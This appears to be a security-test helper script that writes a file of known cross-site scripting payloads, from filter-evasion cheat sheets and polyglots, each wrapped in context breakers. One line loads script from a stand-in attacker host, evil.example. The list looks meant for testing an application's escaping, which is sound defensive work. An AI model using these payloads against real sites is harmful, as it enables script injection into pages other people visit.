"""Writes xss_payloads.txt: known XSS vectors (OWASP filter-evasion cheat sheet, PortSwigger's
XSS cheat sheet, classic polyglots), each also wrapped in context breakers that try to leave an
attribute, a <title>, a <textarea> or a <script> string. Run: python tests/security/make_payloads.py"""

from __future__ import annotations

from pathlib import Path

BASE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",  # noqa: E501
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",  # noqa: E501
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">klikk</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">klikk</a>",
    "<a href=\" javascript:alert(1)\">klikk</a>",
    "<a href=\"java&#x09;script:alert(1)\">klikk</a>",
    "<a href=\"vbscript:msgbox(1)\">klikk</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">klikk</a>",
    "<a href=\"#\" onclick=\"alert(1)\">klikk</a>",
    "<a onmouseover=alert(1)>hold over</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert(1));\">x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=\"javascript:alert(1)\"><button>send</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<table background=\"javascript:alert(1)\">",
    "<TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",  # noqa: E501
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "</script><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\x20type=\"text/javascript\">alert(1);</script>",
    "<script/src=data:,alert(1)>",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<img/src=x\tonerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
]
# Context breakers: leave an attribute value, a <title>, a <textarea>, a string in a <script>.
WRAPPERS = [
    "{}",
    "\">{}",
    "'>{}",
    "</title>{}",
    "</textarea>{}",
]


def payloads() -> list[str]:
    seen: list[str] = []
    for base in BASE:
        for wrapper in WRAPPERS:
            payload = wrapper.format(base)
            if payload not in seen:
                seen.append(payload)
    return seen


if __name__ == "__main__":
    lines = [payload.replace("\n", " ") for payload in payloads()]
    Path(__file__).with_name("xss_payloads.txt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(f"{len(lines)} payloads")
